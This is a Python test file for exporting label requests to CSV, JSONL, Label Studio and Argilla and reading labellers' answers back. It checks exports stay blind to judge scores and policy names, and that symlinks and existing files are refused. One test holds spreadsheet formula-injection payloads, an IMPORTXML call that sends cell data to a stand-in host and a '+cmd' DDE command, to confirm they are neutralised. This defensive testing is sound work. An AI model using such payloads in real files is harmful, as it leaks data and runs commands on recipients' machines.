"""Exports of a request (CSV, JSONL, Label Studio, Argilla), answers back, `cje requests` commands."""
from __future__ import annotations

import csv
import io
import json
from datetime import datetime, timedelta, timezone

import pyarrow as pa
import pytest

from cje_engine.errors import CJEInputError
from flows.cli.main import main
from flows.integrations.labelling.argilla import argilla_settings, parse_argilla
from flows.integrations.labelling.label_studio import label_studio_config, parse_label_studio
from flows.label_requests.answers import parse_scale, parse_table, rescale
from flows.label_requests.manifests import list_requests
from flows.label_requests.raising import raise_requests_for_run
from flows.storage.labels import LabelStore
from flows.storage.logs import write_logs
from flows.storage.objects import Storage

CFG = {"notify": False, "triggers": ["audit_failed"], "max_labels_per_request": 12, "target_se": 0.001}


@pytest.fixture
def raised(audit_case, tmp_path):
    """Logs with prompt/response text in a local folder and one pending request on unhelpful."""
    sim, table, result = audit_case
    frame = table.to_pandas()
    frame["prompt"] = "prompt of " + frame["prompt_id"]
    frame["response"] = "answer " + frame["response_id"]
    frame["ts"] = [datetime.fromisoformat(d).replace(tzinfo=timezone.utc) + timedelta(hours=1) for d in frame["dt"]]
    root = str(tmp_path / "data")
    st = Storage.for_uri(root)
    write_logs(st, pa.Table.from_pandas(frame.drop(columns=["dt", "oracle_label", "label_probability"]),
                                        preserve_index=False), basename="sim")
    labelled = frame[frame["oracle_label"].notna()]
    LabelStore(st).append(pa.Table.from_pandas(labelled[["response_id", "oracle_label", "label_probability"]],
                                               preserve_index=False), "initial")
    (m,) = raise_requests_for_run(None, root, "ev", "2025-03-01_2025-03-02", result, root, CFG)
    return {"root": root, "st": st, "request": m, "oracle": dict(zip(frame["response_id"], sim.oracle_all))}


def test_csv_export_has_text_and_metadata_and_no_judge_score(raised, tmp_path, capsys):
    m, root = raised["request"], raised["root"]
    out = tmp_path / "req.csv"
    assert main(["requests", "export", m["request_id"], "--requests-uri", root, "--format", "csv",
                 "--out", str(out)]) == 0
    rows = list(csv.DictReader(io.StringIO(out.read_text())))
    assert len(rows) == m["n_labels"] == 12
    by = {r["response_id"]: r for r in rows}
    for r in m["rows"]:
        got = by[r["response_id"]]
        assert got["response"] == f"answer {r['response_id']}" and got["prompt"] == f"prompt of {r['prompt_id']}"
        assert float(got["inclusion_probability"]) == pytest.approx(r["inclusion_probability"])
        assert got["request_id"] == m["request_id"] and got["triggers"] == "audit_failed"
        assert got["oracle_label"] == ""
    assert "judge_score" not in rows[0]  # labellers stay blind to the score
    assert "policy" not in rows[0] and "reason" not in rows[0]  # ... and to the policy
    assert main(["requests", "export", m["request_id"], "--requests-uri", root, "--format", "jsonl",
                 "--out", str(tmp_path / "j.jsonl"), "--include-judge-score"]) == 0
    lines = [json.loads(x) for x in (tmp_path / "j.jsonl").read_text().splitlines()]
    assert {x["response_id"]: x["meta"]["judge_score"] for x in lines} == {
        r["response_id"]: r["judge_score"] for r in m["rows"]}


def test_label_studio_and_argilla_exports(raised, tmp_path):
    m, root = raised["request"], raised["root"]
    assert main(["requests", "export", m["request_id"], "--requests-uri", root, "--format", "label-studio",
                 "--out", str(tmp_path / "ls.json")]) == 0
    tasks = json.loads((tmp_path / "ls.json").read_text())
    assert {t["data"]["response_id"] for t in tasks} == {r["response_id"] for r in m["rows"]}
    assert all(t["data"]["cje_request_id"] == m["request_id"] and "judge_score" not in t["data"] for t in tasks)
    assert '<Number name="oracle_label"' in (tmp_path / "ls.label_config.xml").read_text()
    assert main(["requests", "export", m["request_id"], "--requests-uri", root, "--format", "argilla",
                 "--out", str(tmp_path / "ar.json")]) == 0
    doc = json.loads((tmp_path / "ar.json").read_text())
    assert doc["settings"]["questions"][0]["name"] == "oracle_label"
    rec = doc["records"][0]
    assert set(rec) == {"id", "fields", "metadata"} and set(rec["fields"]) == {"prompt", "response"}
    assert "judge_score" not in rec["metadata"] and rec["metadata"]["request_id"] == m["request_id"]


def test_export_names_a_missing_text_column_and_an_unknown_request(raised, tmp_path, capsys):
    m, root = raised["request"], raised["root"]
    assert main(["requests", "export", m["request_id"], "--requests-uri", root, "--out", str(tmp_path / "x.csv"),
                 "--text-columns", "prompt,transcript"]) == 2
    assert "column 'transcript': requested column(s) ['transcript'] are not in any" in capsys.readouterr().err
    assert not (tmp_path / "x.csv").exists()
    assert main(["requests", "show", "lr-20990101-000000000000", "--requests-uri", root]) == 2
    assert "no label request 'lr-20990101-000000000000'" in capsys.readouterr().err


def test_export_never_replaces_a_file_nor_writes_through_a_symlink(raised, tmp_path, capsys):
    """Issue 25: ``--out`` over a CSV holding filled labels made it a blank template, and a symlink was
    followed.  Now: exit 2 naming the file unless ``--force``; a symlink is refused even with ``--force``;
    the write goes through a temporary file in the folder (none left behind)."""
    m, root = raised["request"], raised["root"]
    base = ["requests", "export", m["request_id"], "--requests-uri", root, "--format", "csv"]
    filled = tmp_path / "filled.csv"
    filled.write_text("response_id,oracle_label\nr1,0.7\n")
    assert main(base + ["--out", str(filled)]) == 2
    err = capsys.readouterr().err
    assert err.count("\n") == 1 and f"{filled}: exists already; give --force" in err
    assert filled.read_text() == "response_id,oracle_label\nr1,0.7\n"
    victim = tmp_path / "victim.txt"
    victim.write_text("keep me")
    link = tmp_path / "link.csv"
    link.symlink_to(victim)
    dangling = tmp_path / "dangling.csv"
    dangling.symlink_to(tmp_path / "nowhere.csv")
    for path in (link, dangling):
        for force in ([], ["--force"]):
            assert main(base + ["--out", str(path)] + force) == 2
            assert "symbolic link" in capsys.readouterr().err
    assert victim.read_text() == "keep me" and not (tmp_path / "nowhere.csv").exists()
    assert link.is_symlink() and dangling.is_symlink()
    # label-studio writes two files: an existing labeling config also stops it before anything is written
    (tmp_path / "ls.label_config.xml").write_text("<View/>")
    assert main(base[:-1] + ["label-studio", "--out", str(tmp_path / "ls.json")]) == 2
    assert not (tmp_path / "ls.json").exists() and "ls.label_config.xml" in capsys.readouterr().err
    assert main(base + ["--out", str(filled), "--force"]) == 0
    assert len(list(csv.DictReader(io.StringIO(filled.read_text())))) == m["n_labels"]
    assert sorted(p.name for p in tmp_path.iterdir() if p.name.endswith(".tmp")) == []


def test_csv_export_neutralises_formulas_and_the_filled_csv_imports_unchanged(tmp_path):
    """Issue 25: formula cells (``=IMPORTXML(...)``, ``+cmd|...``) reached labellers' spreadsheets.  Now every
    text cell starting with = + - @, tab or CR gets a leading ``'`` (OWASP); the filled CSV read back gives
    the ids, texts and labels unchanged (the prefix is stripped exactly where it was added)."""
    from flows.integrations.labelling.files import neutralize_csv_cell, restore_csv_cell, to_csv
    from flows.pipelines.labels import read_label_file

    texts = {"=r1": "=IMPORTXML(CONCAT(\"http://x/?\",A2),\"//a\")", "+r2": "+cmd|' /C calc'!A0",
             "-r3": "-2+3", "@r4": "@SUM(1+1)", "'=r5": "\tTAB", "r6": "\rCR", "r7": "'quoted", "r8": "plain"}
    items = [{"item_id": rid, "kind": "response", "request_id": "lr-1", "reason": "=reason", "triggers": "t",
              "policy": "p", "dt": "2025-03-01", "stratum": None, "selection_probability": 0.5,
              "inclusion_probability": 0.25, "label_scale": [0.0, 1.0], "prompt": f"prompt {rid}",
              "response": text} for rid, text in texts.items()]
    data = to_csv(items)
    rows = list(csv.DictReader(io.StringIO(data.decode())))
    dangerous = ("=", "+", "-", "@", "\t", "\r")
    for row in rows:
        for col, cell in row.items():
            assert not cell.startswith(dangerous), (col, cell)  # safe to open in a spreadsheet
    assert rows[0]["response"] == "'=IMPORTXML(CONCAT(\"http://x/?\",A2),\"//a\")"
    assert "reason" not in rows[0]  # exports are blind: no reason text (it names the policy)
    assert [r["response_id"] for r in rows] == ["'=r1", "'+r2", "'-r3", "'@r4", "''=r5", "r6", "r7", "r8"]
    assert rows[6]["response"] == "'quoted" and rows[7]["response"] == "plain"  # untouched: no formula start
    # the labeller fills oracle_label in the spreadsheet and saves the CSV
    labels = {rid: round(0.1 * (i + 1), 1) for i, rid in enumerate(texts)}
    for row, rid in zip(rows, texts):
        row["oracle_label"] = labels[rid]
    path = tmp_path / "filled.csv"
    with open(path, "w", newline="") as fh:
        w = csv.DictWriter(fh, fieldnames=list(rows[0]))
        w.writeheader()
        w.writerows(rows)
    table, _, _ = read_label_file(str(path))
    assert table.column("response_id").to_pylist() == list(texts)
    assert table.column("oracle_label").to_pylist() == [labels[r] for r in texts]
    assert table.column("response").to_pylist() == list(texts.values())
    for value in ["=1", "''=1", "'x", "x=", "", "-", "'"]:
        assert restore_csv_cell(neutralize_csv_cell(value)) == value


def test_list_and_status_count_partly_fulfilled_and_expired(raised, audit_case, capsys):
    m, root, st = raised["request"], raised["root"], raised["st"]
    _, table, result = audit_case
    # an older request of another evaluation, past its deadline
    old = datetime.now(timezone.utc) - timedelta(days=30)
    raise_requests_for_run(None, root, "old", "2025-03-01_2025-03-02", result, root, dict(CFG, triggers=[
        "audit_inconclusive"]), now=old)
    half = [r["response_id"] for r in m["rows"]][:5]
    LabelStore(st).append(pa.table({"response_id": half, "oracle_label": [raised["oracle"][i] for i in half]}),
                          "partial")
    assert main(["requests", "status", "--requests-uri", root, "--json"]) == 0
    s = json.loads(capsys.readouterr().out)
    assert s["by_status"] == {"partly_fulfilled": 1, "expired": 1}
    assert s["by_reason"]["audit_failed"] == {"requests": 1, "requested": 12, "received": 5}
    assert s["by_reason"]["audit_inconclusive"]["received"] == 0
    assert main(["requests", "list", "--requests-uri", root, "--status", "partly_fulfilled"]) == 0
    out = capsys.readouterr().out
    assert m["request_id"] in out and "5/12" in out and "partly_fulfilled" in out
    assert main(["requests", "show", m["request_id"], "--requests-uri", root]) == 0
    assert "reason [audit_failed]" in capsys.readouterr().out
    assert len(list_requests(st)) == 2



def test_status_counts_a_merged_request_once(raised, tmp_path, capsys):
    """A request merged from three reasons (two of them the same trigger) holds its labels once: the
    status used to count it once per reason (3 x 12 = 36 labels for a request of 12)."""
    from flows.label_requests.manifests import write_request

    m = dict(raised["request"], request_id="lr-20990101-00000000abcd")
    reason = m["reasons"][0]
    m["reasons"] = [dict(reason), dict(reason, reason="a second audit"),
                    dict(reason, trigger="thin_support", reason="thin support")]
    root = tmp_path / "merged"
    assert write_request(Storage.for_uri(str(root)), m)
    assert main(["requests", "status", "--requests-uri", str(root), "--json"]) == 0
    s = json.loads(capsys.readouterr().out)
    assert s["requests"] == 1 and s["requested"] == 12
    assert s["by_reasons"] == {"audit_failed+thin_support": {"requests": 1, "requested": 12, "received": 0}}
    assert s["by_reason"]["audit_failed"] == {"requests": 1, "requested": 12, "received": 0}
    assert main(["requests", "status", "--requests-uri", str(root)]) == 0
    out = capsys.readouterr().out
    assert "1 request(s), 0 of 12 label(s) received" in out
    assert "audit_failed+thin_support" in out and "1 request(s), 0/12 label(s)" in out
    assert "/24" not in out and "/36" not in out


@pytest.fixture
def blind_raised(audit_case, tmp_path):
    """`raised` with opaque response ids (as a team's logs carry them): nothing in them names the policy."""
    import hashlib

    sim, table, result = audit_case
    frame = table.to_pandas()
    frame["response_id"] = [hashlib.sha256(r.encode()).hexdigest()[:16] for r in frame["response_id"]]
    frame["prompt"] = "prompt of " + frame["prompt_id"]
    frame["response"] = "answer number " + frame.index.astype(str)
    frame["ts"] = [datetime.fromisoformat(d).replace(tzinfo=timezone.utc) + timedelta(hours=1) for d in frame["dt"]]
    root = str(tmp_path / "blind")
    st = Storage.for_uri(root)
    write_logs(st, pa.Table.from_pandas(frame.drop(columns=["dt", "oracle_label", "label_probability"]),
                                        preserve_index=False), basename="sim")
    labelled = frame[frame["oracle_label"].notna()]
    LabelStore(st).append(pa.Table.from_pandas(labelled[["response_id", "oracle_label", "label_probability"]],
                                               preserve_index=False), "initial")
    (m,) = raise_requests_for_run(None, root, "ev", "2025-03-01_2025-03-02", result, root, CFG)
    return {"root": root, "request": m, "policies": sorted(set(frame["policy"]))}


@pytest.mark.parametrize("fmt", ["csv", "jsonl", "label-studio", "argilla"])
def test_exports_are_blind_to_the_policy_and_answers_map_back_by_row_id(fmt, blind_raised, tmp_path, capsys):
    """Labellers saw the policy (a `policy` column, `cje_policy`, Argilla metadata, and reasons such as
    "audit of 'unhelpful' failed"): no policy name is in any export; the answers come back by row id."""
    m, root = blind_raised["request"], blind_raised["root"]
    assert {r["policy"] for r in m["rows"]} == {"unhelpful"}
    out = tmp_path / f"export.{fmt}"
    assert main(["requests", "export", m["request_id"], "--requests-uri", root, "--format", fmt,
                 "--out", str(out)]) == 0
    text = out.read_text()
    for name in blind_raised["policies"]:
        assert name not in text, f"{fmt} export shows policy {name!r}"
    assert "policy" not in text
    ids = {r["response_id"] for r in m["rows"]}
    if fmt == "csv":
        rows = list(csv.DictReader(io.StringIO(text)))
        table = pa.table({"response_id": [r["response_id"] for r in rows], "oracle_label": [0.5] * len(rows)})
        assert set(parse_table(table, str(out)).ids) == ids
    elif fmt == "label-studio":
        tasks = [dict(t, id=i, annotations=[{"id": i, "result": [{"from_name": "oracle_label",
                                                                   "value": {"number": 3}}]}])
                 for i, t in enumerate(json.loads(text))]
        assert set(parse_label_studio(tasks, str(out)).ids) == ids
    elif fmt == "argilla":
        assert {r["id"] for r in json.loads(text)["records"]} == ids
    else:
        assert {json.loads(x)["response_id"] for x in text.splitlines()} == ids

LS_EXPORT = [
    {"id": 1, "data": {"response_id": "r1"}, "annotations": [
        {"id": 10, "was_cancelled": False, "result": [{"from_name": "oracle_label", "value": {"number": 4}}]}]},
    {"id": 2, "data": {"response_id": "r2"}, "annotations": [  # two labellers agree: counted once
        {"id": 11, "result": [{"from_name": "oracle_label", "value": {"number": 2}}]},
        {"id": 12, "result": [{"from_name": "oracle_label", "value": {"number": 2}}]}]},
    {"id": 3, "data": {"response_id": "r3"}, "annotations": [
        {"id": 13, "was_cancelled": True, "result": []}]},
    {"id": 4, "data": {"response_id": "a003"}, "annotations": [
        {"id": 14, "result": [{"from_name": "oracle_label", "value": {"rating": 5}}]}]},
]


def test_label_studio_export_answers():
    a = parse_label_studio(LS_EXPORT, "ls.json")
    assert a.ids == ["r1", "r2", "a003"] and a.values == [4.0, 2.0, 5.0]
    assert a.duplicates == 1 and a.ignored == {"cancelled": 1} and a.unanswered == ["r3"]
    assert a.task_ids == {"r1": 1, "r2": 2, "r3": 3, "a003": 4}


def test_disagreeing_duplicate_annotations_are_an_error_naming_both():
    bad = [{"id": 7, "data": {"response_id": "r9"}, "annotations": [
        {"id": 1, "result": [{"from_name": "oracle_label", "value": {"number": 1}}]},
        {"id": 2, "result": [{"from_name": "oracle_label", "value": {"number": 5}}]}]}]
    with pytest.raises(CJEInputError, match=r"item 'r9' has 2 submitted answers that disagree \(1 in task 7.*"
                                            r"annotation 1, 5 in task 7.*annotation 2\); resolve them"):
        parse_label_studio(bad, "ls.json")
    with pytest.raises(CJEInputError, match="not a number"):
        parse_label_studio([{"id": 1, "data": {"response_id": "r"}, "annotations": [
            {"result": [{"from_name": "oracle_label", "value": {"choices": ["good"]}}]}]}], "ls.json")


def test_argilla_records_answers():
    recs = [{"id": "r1", "fields": {}, "responses": {"oracle_label": [{"value": 3, "user_id": "u",
                                                                       "status": "submitted"}]}},
            {"id": "r2", "fields": {}, "responses": {"oracle_label": [{"value": 4, "status": "draft"}]}},
            {"id": "r3", "fields": {}, "oracle_label.responses": [2, 2], "oracle_label.responses.users": ["u", "v"],
             "oracle_label.responses.status": ["submitted", "submitted"]}]
    a = parse_argilla({"records": recs}, "ar.json")
    assert a.ids == ["r1", "r3"] and a.values == [3.0, 2.0] and a.duplicates == 1
    assert a.ignored == {"status_draft": 1} and a.unanswered == ["r2"]


def test_scales_are_parsed_checked_and_mapped():
    assert parse_scale("1-5") == (1.0, 5.0) and parse_scale("0..1") == (0.0, 1.0) and parse_scale("-1-1") == (-1, 1)
    assert parse_scale("10-100") == (10.0, 100.0)
    with pytest.raises(CJEInputError, match="not like 1-5"):
        parse_scale("five")
    assert rescale([1, 3, 5], ["a", "b", "c"], ["r0", "r1", "r2"], "f", (1, 5), (0, 1)) == [0.0, 0.5, 1.0]
    with pytest.raises(CJEInputError, match=r"r1: answer 6 for 'b' is outside the label scale \[1, 5\]"):
        rescale([1, 6], ["a", "b"], ["r0", "r1"], "f", (1, 5), (0, 1))
    t = parse_table(pa.table({"id": ["x", "y"], "score": ["4", None]}), "f.csv", answer_field="score", id_field="id")
    assert t.ids == ["x"] and t.values == [4.0] and t.unanswered == ["y"]


def test_tool_settings_follow_the_scale():
    assert argilla_settings((1, 5))["questions"][0] == {"name": "oracle_label", "type": "rating",
                                                       "values": [1, 2, 3, 4, 5], "required": True,
                                                       "title": "Oracle label (1 to 5)"}
    assert argilla_settings((0, 1))["questions"][0]["type"] == "rating"  # 0/1 is a two-point rating
    assert argilla_settings((0, 100))["questions"][0]["type"] == "text"
    assert 'min="1" max="5" step="1"' in label_studio_config((1, 5))
    assert 'step="0.01"' in label_studio_config((0, 1))


def _raised_with_texts(audit_case, tmp_path, texts: dict, columns: dict | None = None) -> dict:
    """`raised` with other text columns in the logs (``{name: prefix}``) and an evaluations file with ``columns:``."""
    import yaml

    sim, table, result = audit_case
    frame = table.to_pandas()
    for name, prefix in texts.items():
        frame[name] = prefix + frame["response_id"]
    frame["ts"] = [datetime.fromisoformat(d).replace(tzinfo=timezone.utc) + timedelta(hours=1) for d in frame["dt"]]
    root = str(tmp_path / "data")
    write_logs(Storage.for_uri(root), pa.Table.from_pandas(frame.drop(columns=["dt", "oracle_label",
                                                                                "label_probability"]),
                                                            preserve_index=False), basename="sim")
    (m,) = raise_requests_for_run(None, root, "ev", "2025-03-01_2025-03-02", result, root, CFG)
    cfg = tmp_path / "evaluations.yaml"
    cfg.write_text(yaml.safe_dump({"evaluations": [{"name": "ev", "logs_uri": root, "window": "2025-03-01..2025-03-02",
                                                     **({"columns": columns} if columns else {})}]}))
    return {"root": root, "request": m, "config": str(cfg)}


def test_export_text_columns_default_to_what_the_logs_have(audit_case, tmp_path, capsys):
    """Issue 26: the default ``--text-columns prompt,response`` failed on logs without a prompt column, and a
    response column mapped with ``columns: {response: response_text}`` was "not in any of the log files". Now the
    default comes from the logs' columns: prompt and response (after the mapping) where present, else columns named
    like text (question, answer, ...); none at all is one line naming the flag."""
    w = _raised_with_texts(audit_case, tmp_path / "mapped", {"response_text": "said "}, {"response": "response_text"})
    out = tmp_path / "mapped.csv"
    assert main(["requests", "export", w["request"]["request_id"], "--evaluation", "ev", "--config", w["config"],
                 "--out", str(out)]) == 0
    rows = list(csv.DictReader(io.StringIO(out.read_text())))
    assert "prompt" not in rows[0] and all(r["response"] == "said " + r["response_id"] for r in rows)
    w = _raised_with_texts(audit_case, tmp_path / "named", {"question": "q ", "answer": "a ", "model_tag": "x "})
    out = tmp_path / "named.csv"
    assert main(["requests", "export", w["request"]["request_id"], "--requests-uri", w["root"], "--out", str(out)]) == 0
    rows = list(csv.DictReader(io.StringIO(out.read_text())))
    assert list(rows[0])[:4] == ["response_id", "question", "answer", "oracle_label"]  # never model_tag
    assert rows[0]["question"] == "q " + rows[0]["response_id"]
    w = _raised_with_texts(audit_case, tmp_path / "none", {})
    capsys.readouterr()
    assert main(["requests", "export", w["request"]["request_id"], "--requests-uri", w["root"], "--out",
                 str(tmp_path / "none.csv")]) == 2
    err = capsys.readouterr().err
    (line,) = [x for x in err.splitlines() if "error" in x]
    assert "no text column to show labellers" in line and "--text-columns" in line
    assert not (tmp_path / "none.csv").exists()
    assert main(["requests", "export", "--help"]) == 0
    assert "prompt,response, those of the two the logs have" in " ".join(capsys.readouterr().out.split())
